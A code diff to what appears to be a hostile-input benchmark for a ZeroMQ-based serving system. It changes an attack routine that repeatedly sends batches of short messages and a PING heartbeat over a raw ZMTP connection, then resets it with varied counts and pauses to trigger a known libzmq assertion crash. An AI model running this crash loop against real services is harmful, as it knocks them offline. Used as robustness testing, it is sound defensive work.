@@ -8,45 +8,40 @@ connection, and aborts the process (``Assertion failed: !_io_error``, libzmq iss
 from __future__ import annotations
 
 import contextlib
+import itertools
 import struct
 import time
 
 from benchmarks.serving.hostile.attacks.attack import Attack, Target, attack
-from benchmarks.serving.hostile.zmtp import RawPeer, command, frame, message
-
-BATCH_BYTES = 8192
-"""Bytes that libzmq reads at once."""
+from benchmarks.serving.hostile.zmtp import RawPeer, command, message
 
 TTL_DECISECONDS = 10
 
-PAUSES_S = (0.0, 0.0005, 0.001, 0.002)
+NUMBERS = (100, 200, 400, 800)
+"""Messages before the heartbeat: more than a queue takes, and at most as many as libzmq reads from
+the connection at once (8 KiB)."""
+
+PAUSES_S = (0.001, 0.002, 0.004)
 """Times between the messages and the reset [s]."""
 
 
-def messages_and_ping(body: bytes) -> bytes:
-    """Returns as many messages as libzmq reads at once, the last one a heartbeat.
-
-    Args:
-        body: Content of each message; a short one, so that they fill the queue.
-    """
+def messages_and_ping(body: bytes, number: int) -> bytes:
+    """Returns this many messages with a short body, and a heartbeat."""
     ping = command(b"PING", struct.pack(">H", TTL_DECISECONDS) + b"context")
-    one = message(body)
-    return one * ((BATCH_BYTES - len(ping)) // len(one)) + ping
+    return message(body) * number + ping + message(body)
 
 
 def ping_and_reset(target: Target, address: str, body: bytes) -> None:
     """Connects, sends messages and a heartbeat, and resets the connection; again and again."""
-    data, number = messages_and_ping(body), 0
-    while target.running():
+    for number, pause_s in itertools.cycle(itertools.product(NUMBERS, PAUSES_S)):
+        if not target.running():
+            break
         with contextlib.suppress(OSError):
             peer = RawPeer(address, minor=1)
             with contextlib.suppress(OSError):
-                peer.send(data)
-                peer.send(frame(b"x"))
-                time.sleep(PAUSES_S[number % len(PAUSES_S)])
+                peer.send(messages_and_ping(body, number))
+                time.sleep(pause_s)
             peer.reset()
-        number += 1
-        time.sleep(0.005)
 
 
 @attack()
